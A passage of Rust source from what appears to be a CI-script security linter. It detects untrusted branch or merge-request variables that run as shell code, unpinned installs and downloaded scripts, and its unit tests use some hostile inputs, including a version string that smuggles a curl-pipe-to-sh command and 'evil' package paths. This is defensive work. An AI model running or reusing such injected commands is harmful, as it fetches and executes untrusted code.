            c if c.is_ascii_alphanumeric() || "_/-".contains(c) => {}
            _ => return false,
        }
    }
    depth == 0
}

/// The length of a character class of plain characters after its `[` (through its
/// `]`), or `None`: letters, digits, `.` `_` `/` `-`, `\d`, `\w`, and ranges within one
/// of `a-z`, `A-Z`, `0-9`.
fn plain_class(chars: &[char]) -> Option<usize> {
    let same_kind = |a: char, b: char| {
        a <= b
            && (a.is_ascii_lowercase() && b.is_ascii_lowercase()
                || a.is_ascii_uppercase() && b.is_ascii_uppercase()
                || a.is_ascii_digit() && b.is_ascii_digit())
    };
    let plain = |c: char| c.is_ascii_alphanumeric() || "._/-".contains(c);
    let mut i = 0;
    if chars.first() == Some(&'^') {
        return None;
    }
    while let Some(&c) = chars.get(i) {
        match c {
            ']' if i > 0 => return Some(i + 1),
            '\\' => match chars.get(i + 1) {
                Some('d' | 'w' | '.' | '-' | '/' | '_') => i += 2,
                _ => return None,
            },
            // a range: both ends plain and of one kind
            _ if chars.get(i + 1) == Some(&'-') && chars.get(i + 2).is_some_and(|&e| e != ']') => {
                let end = chars[i + 2];
                if !same_kind(c, end) {
                    return None;
                }
                i += 3;
            }
            _ if plain(c) => i += 1,
            _ => return None,
        }
    }
    None
}

/// The assignments of a command that outlive it: `NAME=value` standing alone (also
/// after `then`, `do`, `{`), and the arguments of `export`, `local`, `declare`,
/// `readonly`, `typeset`. `NAME=value cmd` sets the variable for `cmd` only.
fn persistent_assignments(c: &Command) -> Vec<(&str, &Word)> {
    let standalone = c.name().is_none();
    let mut out: Vec<(&str, &Word)> = if standalone {
        c.assignments.iter().map(|(n, w)| (n.as_str(), w)).collect()
    } else {
        Vec::new()
    };
    if standalone {
        for w in &c.words {
            if let Some((name, _)) = w.text.split_once('=') {
                if crate::shell::is_name(name) {
                    out.push((name, w));
                }
            }
        }
    }
    out.extend(
        c.assigned_words()
            .into_iter()
            .filter(|_| !standalone)
            .filter(|(name, w)| {
                // `assigned_words` also gives the prefix assignments: only the arguments count
                !c.assignments
                    .iter()
                    .any(|(n, a)| n == name && std::ptr::eq(a, *w))
            }),
    );
    out
}

/// The PL6001 findings of one command (`previous` is the command before it, whose
/// output a pipe may feed it).
fn untrusted_in_command(
    cx: &JobCx,
    script: &ScannedScript,
    c: &Command,
    previous: Option<&Command>,
    tainted: &Tainted,
    depth: usize,
    hits: &mut Vec<ScriptHit>,
) {
    let Some(name) = c.name() else { return };
    // shell code inside shell code is read again, a few levels deep
    let nested = depth < MAX_NESTED_SHELLS;
    let locate = Locator::new(cx.sources, script.text, script.origin);
    let hit = |v: &VarRef, t: &Taint, how: String, fixes: Vec<Fix>| {
        let what = match &t.copied_at {
            None => format!("`${}` is text", v.name),
            Some(_) => format!("`${}` holds `${}`, text", v.name, t.outsider),
        };
        ScriptHit {
            at: locate.range(v.start, v.end),
            message: format!(
                "{what} anyone who opens a merge request or pushes a branch chooses, {how}"
            ),
            label: how,
            related: t
                .copied_at
                .map(|at| (at, format!("copied from `${}` here", t.outsider))),
            fixes,
        }
    };
    // the command's own `NAME=value` prefixes reach it, exported (`M="$X" sh -c '…'`);
    // copied only when there are some: most commands have none
    let with_prefixes;
    let here = if c.assignments.is_empty() {
        tainted
    } else {
        let mut own = tainted.clone();
        for (var, word) in &c.assignments {
            let from = tainted.among(word.vars.iter()).map(|(_, t)| t);
            own.assign(var, from, || locate.range(word.start, word.end), true);
        }
        with_prefixes = own;
        &with_prefixes
    };
    // fed to a shell on standard input: piped from the command before, or a here-doc
    if runs_stdin(c) {
        let piped = previous
            .filter(|p| c.piped_in && p.piped_out)
            .map(|p| {
                p.args()
                    .iter()
                    .flat_map(|w| w.vars.iter())
                    .collect::<Vec<_>>()
            })
            .unwrap_or_default();
        if let Some((v, t)) = here.among(piped.into_iter().chain(c.stdin_vars())) {
            hits.push(hit(
                v,
                &t,
                format!("run as code by `{name}` on its input"),
                Vec::new(),
            ));
        }
        // a quoted here-doc: the shell reads it as a script of its own
        if nested && c.heredoc_vars.is_empty() && !c.heredoc_text.is_empty() {
            inner_script(cx, script, c, (&c.heredoc_text, depth), here, hits);
        }
    }
    // no splitting inside `[[ … ]]`, `case WORD`, or an assignment
    if matches!(name, "[[" | "case") {
        return;
    }
    let code = code_words(c, name);
    // single-quoted code is shell code only for a shell (`perl -e '…$x…'` is Perl's)
    // nor, in a container, for what the job's variables do not reach (no `-e`)
    let in_container = container_shell_code(name, c.args()).is_some();
    let shell_code =
        (!is_interpreter(name) || crate::creds::SHELLS.contains(&base(name))) && !in_container;
    for (i, w) in c.args().iter().enumerate() {
        if nested && shell_code && code.contains(&i) && w.vars.is_empty() {
            // shell code in single quotes: the shell that runs it expands it
            inner_script(cx, script, c, (&w.text, depth), here, hits);
        }
        for v in &w.vars {
            let Some(t) = here.of(&v.name) else { continue };
            if made_safe(script.text, w, v) {
                continue;
            }
            let (how, fixes) = if code.contains(&i) {
                (format!("run as code by `{name}`"), Vec::new())
            } else if !w.quoted
                && FREE_TEXT.contains(&t.outsider.as_str())
                && !declares(name, &w.text)
            {
                // `$(… $X)`: quoting inside the substitution leaves its output split
                let whole_word = script.text.get(w.start..w.end) == script.text.get(v.start..v.end);
                let quote = whole_word
                    .then(|| quote_fix(cx, script, v.start, v.end))
                    .flatten();
                ("expanded unquoted".to_string(), quote.into_iter().collect())
            } else {
                continue;
            };
            hits.push(hit(v, &t, how, fixes));
        }
    }
}

/// `export M=$X`, `local M=$X`: bash assigns a declaration builtin's `NAME=value`
/// arguments whole, as it does a plain assignment (no splitting, no globbing).
fn declares(name: &str, word: &str) -> bool {
    matches!(
        name,
        "export" | "local" | "declare" | "typeset" | "readonly"
    ) && word
        .split_once('=')
        .is_some_and(|(var, _)| crate::shell::is_name(var))
}

/// Shell code a command hands to another shell as written (a single-quoted `-c`
/// string, a quoted here-doc): read as a script of its own, where the outsider
/// variables (in the environment) are as dangerous as outside. Found at the command.
fn inner_script(
    cx: &JobCx,
    script: &ScannedScript,
    c: &Command,
    (code, depth): (&str, usize),
    tainted: &Tainted,
    hits: &mut Vec<ScriptHit>,
) {
    let inner = crate::shell::scan(code);
    let mut found = Vec::new();
    let inner_script = ScannedScript {
        text: code,
        origin: script.origin,
        commands: Vec::new(),
    };
    // only what the environment passes on: outsider variables and exported copies
    let env_only = tainted.exported();
    let mut previous: Option<&Command> = None;
    for ic in &inner {
        untrusted_in_command(
            cx,
            &inner_script,
            ic,
            previous,
            &env_only,
            depth + 1,
            &mut found,
        );
        previous = Some(ic);
    }
    let (Some(name_word), Some(f)) = (c.name_word(), found.into_iter().next()) else {
        return;
    };
    // placed only when there is a finding: a place costs the script's length
    let at =
        Locator::new(cx.sources, script.text, script.origin).range(name_word.start, name_word.end);
    hits.push(ScriptHit {
        at,
        message: format!("the shell code `{}` runs: {}", name_word.text, f.message),
        label: f.label,
        related: None,
        fixes: Vec::new(),
    });
}

/// Whether the shell quotes the expansion for reuse as code (`${X@Q}`, `$(printf '%q'
/// "$X")`) or replaces it with other text (`${X:+--flag}`): no outsider text then.
fn made_safe(text: &str, w: &Word, v: &VarRef) -> bool {
    let form = text
        .get(v.start..)
        .and_then(|t| t.strip_prefix("${"))
        .and_then(|t| t.strip_prefix(v.name.as_str()))
        .unwrap_or("");
    if form.starts_with("@Q") || form.starts_with(":+") || form.starts_with('+') {
        return true;
    }
    // inside a `$(printf '%q' …)` of the same word
    let before = text.get(w.start..v.start).unwrap_or("");
    before
        .rfind("$(")
        .map(|i| &before[i..])
        .is_some_and(|sub| sub.contains("printf") && sub.contains("%q") && !sub.contains(')'))
}

/// The arguments a command runs as code: all of `eval`'s, `trap`'s first, and the
/// command string of an interpreter's (or `su`'s) `-c`; the words after that string
/// are its positional parameters, data unless the string `eval`s them. An
/// interpreter's other options and its script file (`python3 notify.py -c x`) are not
/// code.
fn code_words(c: &Command, name: &str) -> Vec<usize> {
    let args = c.args();
    match name {
        "eval" => return (0..args.len()).collect(),
        // `trap [--] CODE SIGNAL…`
        "trap" => {
            let code = args.iter().position(|a| a.text != "--");
            return code.into_iter().collect();
        }
        _ => {}
    }
    if matches!(name, "su" | "runuser") {
        // `su USER -c CODE`, `su -lc CODE USER`, `su --command=CODE`
        return su_code(args);
    }
    if let Some(at) = wrapped_shell_code(name, args) {
        return command_string(args, at);
    }
    if base(name) == "ssh" {
        return ssh_remote_command(args);
    }
    if let Some(at) = container_shell_code(name, args) {
        return command_string(args, at);
    }
    if !is_shell(name) && !is_interpreter(name) {
        return Vec::new();
    }
    code_option_end(name, args, 0)
        .map(|at| command_string(args, at))
        .unwrap_or_default()
}

/// The index after an interpreter's `-c` (or `node -e`, `perl -E`…) among its options
/// from `from` on: `-eo pipefail -c CODE`. None when a script file, a module, standard
/// input (`--`) or the end comes first.
pub(crate) fn code_option_end(name: &str, args: &[Word], from: usize) -> Option<usize> {
    let shell_like = is_shell(name);
    let mut i = from;
    while let Some(a) = args.get(i) {
        let t = a.text.as_str();
        let option =
            !a.quoted && t.len() > 1 && (t.starts_with('-') || shell_like && t.starts_with('+'));
        if !option || t == "-m" || t == "--" {
            return None;
        }
        let is_c = t == "-c"
            || shell_like && !t.starts_with("--") && t[1..].contains('c')
            || !shell_like && evaluates_next(name, t);
        if is_c {
            return Some(i + 1);
        }
        i += if option_takes_value(t, shell_like) {
            2
        } else {
            1
        };
    }
    None
}

/// Whether an interpreter's option takes the next word as its value: a shell's `-o
/// pipefail`, `-O extglob` (also bundled, `-euo pipefail`), Python's `-W ignore` and
/// `-X dev`.
fn option_takes_value(option: &str, shell_like: bool) -> bool {
    if shell_like {
        let letters = option.trim_start_matches(['-', '+']);
        !option.starts_with("--") && (letters.ends_with('o') || letters.ends_with('O'))
            || matches!(option, "--rcfile" | "--init-file")
    } else {
        matches!(option, "-W" | "-X")
    }
}

/// The command string of `-c`, from `from` on (past `--`), and the positional words
/// after it when the string `eval`s them.
fn command_string(args: &[Word], from: usize) -> Vec<usize> {
    let mut j = from;
    while args.get(j).is_some_and(|a| a.text == "--") {
        j += 1;
    }
    let Some(command) = args.get(j) else {
        return Vec::new();
    };
    let evals = crate::shell::scan(&command.text)
        .iter()
        .any(|c| c.name() == Some("eval"));
    let last = if evals { args.len() } else { j + 1 };
    (j..last).collect()
}

/// Whether an interpreter's option takes the code to run (`node -e`, `ruby -e`, `perl
/// -E`, `php -r`), as `-c` does Python's.
fn evaluates_next(name: &str, option: &str) -> bool {
    let program = base(name).trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match program {
        "node" | "nodejs" | "deno" | "bun" => matches!(option, "-e" | "--eval" | "-p" | "--print"),
        "ruby" => option == "-e",
        "perl" => matches!(option, "-e" | "-E"),
        "php" => option == "-r",
        _ => false,
    }
}

/// The words of `ssh [OPTIONS] HOST COMMAND…`: ssh joins them with spaces and the remote
/// user's shell reads the line again, so each is code there, quoted or not.
pub(crate) fn ssh_remote_command(args: &[Word]) -> Vec<usize> {
    // the options that take a value (`-i KEY`, `-o Opt=v`, bundled `-Ti KEY`)
    const WITH_VALUE: &str = "bcDEeFIiJLlmOopQRSWwB";
    let mut i = 0;
    while let Some(a) = args.get(i) {
        let t = a.text.as_str();
        if t == "--" {
            i += 1;
            break;
        }
        let Some(letters) = t.strip_prefix('-').filter(|l| !l.is_empty()) else {
            break;
        };
        // a value joined to its letter (`-p2222`) or the next word (`-p 2222`)
        let takes = letters.find(|c| WITH_VALUE.contains(c));
        i += match takes {
            Some(at) if at + 1 == letters.len() => 2,
            _ => 1,
        };
    }
    // the host, then the command
    (i + 1..args.len()).collect()
}

/// Where the code is that a command runs through a shell of its own: `flock FILE -c
/// CODE`, `find … -exec sh -c CODE \;` (also `-execdir`, `-ok`). The index of the code.
pub(crate) fn wrapped_shell_code(name: &str, args: &[Word]) -> Option<usize> {
    match name {
        "flock" => {
            let c = args
                .iter()
                .position(|a| matches!(a.text.as_str(), "-c" | "--command"))?;
            Some(c + 1).filter(|&at| at < args.len())
        }
        // each `-exec` (`find … -exec chmod +x {} \; -exec sh -c CODE \;`)
        "find" => (0..args.len())
            .filter(|&i| matches!(args[i].text.as_str(), "-exec" | "-execdir" | "-ok"))
            .find_map(|exec| {
                let shell = args.get(exec + 1)?;
                let shell = base(&shell.text);
                is_shell(shell).then_some(())?;
                code_option_end(shell, args, exec + 2).filter(|&at| at < args.len())
            }),
        _ => None,
    }
}

/// Where the `-c` of a shell a container runs is: `docker run IMAGE sh -c CODE`, `docker
/// exec C bash -lc CODE`, `kubectl exec POD -- sh -c CODE` (the code runs in the
/// container, whose shell expands what this one left alone). The index of the word
/// after the `-c`.
pub(crate) fn container_shell_code(name: &str, args: &[Word]) -> Option<usize> {
    let runner = matches!(
        base(name),
        "docker" | "podman" | "nerdctl" | "kubectl" | "oc"
    );
    if !runner || !matches!(container_subcommand(args), Some("run" | "exec")) {
        return None;
    }
    // `docker run --entrypoint sh IMAGE -c CODE`: the image's arguments go to the shell
    let entrypoint = args.iter().enumerate().find_map(|(i, a)| {
        let t = a.text.as_str();
        match t.strip_prefix("--entrypoint") {
            Some("") => args.get(i + 1).filter(|v| is_shell(&v.text)).map(|_| i + 2),
            Some(v) => v.strip_prefix('=').filter(|v| is_shell(v)).map(|_| i + 1),
            None => None,
        }
    });
    if let Some(from) = entrypoint {
        let dash_c = |t: &str| t.starts_with('-') && !t.starts_with("--") && t[1..].contains('c');
        return (from..args.len())
            .find(|&i| dash_c(&args[i].text))
            .map(|c| c + 1);
    }
    // `IMAGE sh -e -c CODE`, `POD -- bash -euo pipefail -c CODE`
    // (`busybox sh -c`: the image's name may be a shell's)
    (args.iter().enumerate())
        .filter(|(_, a)| !a.quoted && is_shell(&a.text))
        .find_map(|(shell, _)| shell_command_string(args, shell + 1))
}

/// Whether the command starts a container of this machine's runner, with what
/// `-e`/`--env-file` give it of the job's environment: `docker run`, `podman exec`.
pub(crate) fn starts_local_container(name: &str, args: &[Word]) -> bool {
    matches!(base(name), "docker" | "podman" | "nerdctl")
        && matches!(container_subcommand(args), Some("run" | "exec"))
}

/// A shell's (`sh`, `bash`, … `busybox`).
fn is_shell(name: &str) -> bool {
    crate::creds::SHELLS.contains(&base(name))
}

/// The subcommand of a container runner, past its global options and their values
/// (`kubectl -n ns exec`, `docker --context prod run`, `docker compose -f c.yml run`).
fn container_subcommand(args: &[Word]) -> Option<&str> {
    const TAKE_A_VALUE: &[&str] = &[
        "-n",
        "--namespace",
        "--context",
        "--kubeconfig",
        "--cluster",
        "--user",
        "-s",
        "--server",
        "-H",
        "--host",
        "--config",
        "-l",
        "--log-level",
        "--connection",
        "--url",
        "-f",
        "--file",
        "-p",
        "--project-name",
        "--profile",
        "--env-file",
    ];
    let mut i = 0;
    while let Some(a) = args.get(i) {
        let t = a.text.as_str();
        if t.starts_with('-') {
            i += if TAKE_A_VALUE.contains(&t) { 2 } else { 1 };
            continue;
        }
        if !matches!(t, "compose" | "container") {
            return Some(t);
        }
        i += 1;
    }
    None
}

/// Where the command string of a shell's `-c` is, the shell's options starting at
/// `from` (`-e -c`, `-ec`, `-o pipefail -c`, `--noprofile -c`); none when the shell
/// runs a script file or standard input.
fn shell_command_string(args: &[Word], from: usize) -> Option<usize> {
    let mut i = from;
    while let Some(a) = args.get(i) {
        let t = a.text.as_str();
        let option = !a.quoted && t.len() > 1 && (t.starts_with('-') || t.starts_with('+'));
        if !option || t == "--" {
            return None;
        }
        if !t.starts_with("--") && t[1..].contains('c') {
            return command_string(args, i + 1).first().copied();
        }
        i += if option_takes_value(t, true) { 2 } else { 1 };
    }
    None
}

/// Whether `ssh` runs its standard input as code: `ssh HOST` (the remote login shell),
/// `ssh HOST bash -s`, `ssh HOST 'sudo bash'`, `ssh HOST sudo -i`. Not with `-N`
/// (forwarding only), `-W` (a connection) or `-n` (no input), nor for a remote command
/// that is not a shell reading its input.
pub(crate) fn ssh_runs_stdin(args: &[Word]) -> bool {
    // `-N`, `-n`, `-f` (which implies `-n`), also bundled (`-tn`), and `-W HOST:PORT`
    let no_input = |t: &str| {
        t.strip_prefix('-').is_some_and(|f| {
            !f.starts_with('-')
                && f.chars().all(|c| c.is_ascii_alphanumeric())
                && f.contains(['N', 'n', 'f', 'W'])
        })
    };
    if (args.iter()).any(|a| no_input(&a.text)) {
        return false;
    }
    let remote = ssh_remote_command(args);
    let words: Vec<&str> = (remote.iter())
        .flat_map(|&i| args[i].text.split_whitespace())
        .collect();
    let mut command = words.as_slice();
    if command.first() == Some(&"sudo") {
        // `sudo -u app bash -s`: past sudo's options and their values
        let mut i = 1;
        while let Some(o) = command.get(i).filter(|o| o.starts_with('-')) {
            i += if matches!(*o, "-u" | "-g" | "-C" | "-D") {
                2
            } else {
                1
            };
        }
        let login_shell = command[1..i.min(command.len())]
            .iter()
            .any(|o| matches!(*o, "-i" | "-s"));
        command = command.get(i..).unwrap_or(&[]);
        if command.is_empty() {
            return login_shell;
        }
    }
    match command.first() {
        None => true,
        Some(first) => {
            is_shell(first)
                && !command
                    .iter()
                    .any(|w| w.starts_with('-') && !w.starts_with("--") && w[1..].contains('c'))
        }
    }
}

/// The code `su` runs: after `-c` (alone or bundled, `-lc`), or in `--command=…`.
fn su_code(args: &[Word]) -> Vec<usize> {
    for (i, a) in args.iter().enumerate() {
        let t = a.text.as_str();
        if t.starts_with("--command=") {
            return vec![i];
        }
        if t == "--command"
            || !a.quoted && t.starts_with('-') && !t.starts_with("--") && t[1..].contains('c')
        {
            return vec![i + 1];
        }
    }
    Vec::new()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn patterns_that_fix_a_ref_to_plain_names() {
        for plain in [
            r"^v\d+\.\d+\.\d+$",
            "^release/[0-9]+$",
            "^(main|master)$",
            r"^[a-z0-9._/-]+$",
            "^v[0-9]{1,3}$",
        ] {
            assert!(admits_only_plain_names(plain), "{plain}");
        }
        for open in [
            "^main|master$",
            r"^v\d+|rc$",
            "^[0-z]+$",
            "^[A-z]+$",
            "^[.-z]+$",
            "^[--z]+$",
            "^v.+$",
            "^[^;]+$",
            "^main",
            r"^main\$",
            "^(main$",
        ] {
            assert!(!admits_only_plain_names(open), "{open}");
        }
    }
    use crate::shell::scan;

    fn install(script: &str) -> Option<String> {
        let cmds = scan(script);
        cmds.iter()
            .find_map(|c| unpinned_install(c).map(|(w, _)| w.text.clone()))
    }

    #[test]
    fn code_a_container_shell_runs() {
        let code = |script: &str| {
            let cmds = scan(script);
            let c = cmds.first()?;
            let at = container_shell_code(c.name()?, c.args())?;
            Some(c.args()[at].text.clone())
        };
        let runs = |script: &str| code(script).is_some_and(|c| c == "echo $T");
        assert!(runs("docker run alpine sh -c 'echo $T'"));
        assert!(runs("docker run alpine sh -e -c 'echo $T'"));
        assert!(runs("docker exec c bash -euo pipefail -c 'echo $T'"));
        assert!(runs("docker run busybox sh -c 'echo $T'"));
        assert!(runs("kubectl -n prod exec pod -- sh -c 'echo $T'"));
        assert!(runs(
            "kubectl --context ci exec -i pod -- /bin/bash -lc 'echo $T'"
        ));
        assert!(runs("docker compose -f ci.yml run app sh -c 'echo $T'"));
        assert!(runs("docker run --entrypoint sh alpine -c 'echo $T'"));
        // a script file, standard input, another subcommand
        assert_eq!(code("docker run alpine sh ./deploy.sh"), None);
        assert_eq!(code("docker run -i alpine sh -s"), None);
        assert_eq!(code("kubectl -n prod logs pod sh -c x"), None);
        assert_eq!(code("docker build -t sh -c ."), None);
    }

    #[test]
    fn globs() {
        assert!(glob_match(
            "go install golang.org/x/tools/cmd/goimports@*",
            "go install golang.org/x/tools/cmd/goimports@latest"
        ));
        assert!(glob_match("npx prettier *", "npx prettier --check ."));
        assert!(!glob_match("npx prettier *", "npx eslint ."));
        assert!(glob_match("exact", "exact"));
        assert!(!glob_match("a*b*c", "acb"));
        // a `*` stays inside its word: a second package is not trusted with the first
        assert!(!glob_match(
            "go install golang.org/x/tools/cmd/goimports@*",
            "go install golang.org/x/tools/cmd/goimports@latest github.com/evil/x@latest"
        ));
        assert!(!glob_match(
            "go install *@v1.2.3",
            "go install evil@latest x@v1.2.3"
        ));
        assert!(
            !glob_match("ab*ba", "aba"),
            "the prefix and suffix may not overlap"
        );
        // nor a parent folder, nor the shell's expansions
        assert!(!glob_match(
            "pip install git+https://github.com/myorg/*",
            "pip install git+https://github.com/myorg/../evil/pkg"
        ));
        assert!(!glob_match(
            "go install x/goimports@*",
            "go install x/goimports@$(curl${IFS}e|sh)"
        ));
    }

    #[test]
    fn pinned_and_unpinned_installs() {
        assert_eq!(
            install("go install x.io/t@latest").as_deref(),
            Some("x.io/t@latest")
        );
        assert_eq!(install("go install x.io/t@v1.2.3"), None);
        // a tag that is no semantic version is a revision, which can be moved
        assert!(install("go run honnef.co/go/tools/cmd/staticcheck@2023.1.7").is_some());
        assert!(install("go install x.io/t@v1.2").is_some());
        assert_eq!(
            install("go install x.io/t@v0.0.0-20240101000000-abcdef123456"),
            None
        );
        assert!(install("go install x.io/t@v1").is_some());
        assert!(install("go install x.io/t@v1.2").is_some());
        assert!(install("go install x.io/t@feature-branch").is_some());
        assert!(install("cargo install --git https://github.com/x/y").is_some());
        assert_eq!(
            install("cargo install --git https://github.com/x/y --rev 1a2b3c4d"),
            None
        );
        assert!(install("pip install git+https://h/o/r.git").is_some());
        assert!(install("pip install git+https://h/o/r.git@main").is_some());
        assert_eq!(install("pip install git+https://h/o/r.git@0123abcd"), None);
        assert_eq!(install("npm i -g @scope/tool@1.2.3"), None);
        assert!(install("npm i -g @scope/tool").is_some());
        assert!(install("npm i -g tool@latest").is_some());
        assert!(install("npm -g install tool").is_some());
        assert!(install("npm --location=global i tool").is_some());
        assert!(install("npm --prefix /opt -g add tool").is_some());
        assert_eq!(install("npm -g install tool@2.0.1"), None);
        assert_eq!(install("npm -g run build"), None);
        assert_eq!(
            install("npm install tool"),
            None,
            "a local install has its lockfile"
        );
        assert_eq!(install("cargo install tool --version 1.0.0"), None);
        assert_eq!(install("cargo install tool@1.0.0"), None);
        assert!(install("cargo install tool").is_some());
        assert_eq!(install("cargo install --path ."), None);
        assert_eq!(install("gem install x -v 1.0"), None);
        assert!(install("gem install x").is_some());
    }

    #[test]
    fn downloads_and_the_files_they_write() {
        let file = |s: &str| downloaded_file(&scan(s)[0]);
        assert_eq!(
            file("curl -fsSLo a.sh https://x/a.sh").as_deref(),
            Some("a.sh")
        );
        assert_eq!(
            file("curl -O https://x/dir/b.sh?x=1").as_deref(),
            Some("b.sh")
        );
        assert_eq!(
            file("curl --output=c.sh https://x").as_deref(),
            Some("c.sh")
        );
        assert_eq!(file("wget https://x/d.sh").as_deref(), Some("d.sh"));
        assert_eq!(file("wget -qO- https://x/d.sh"), None);
        assert_eq!(file("curl https://x/e.sh > e.sh").as_deref(), Some("e.sh"));
        assert_eq!(file("curl https://x/api"), None);
    }

    #[test]
    fn the_makefile_make_runs() {
        let runs = |s: &str| executed_file(&scan(s)[0]);
        assert_eq!(
            runs("make ci -f Makefile.ci").as_deref(),
            Some("Makefile.ci")
        );
        assert_eq!(runs("make --file=m.mk all").as_deref(), Some("m.mk"));
        assert_eq!(runs("gmake -fm.mk").as_deref(), Some("m.mk"));
        assert_eq!(runs("make test").as_deref(), Some("Makefile"));
        assert_eq!(runs("make -C sub test"), None);
    }
}
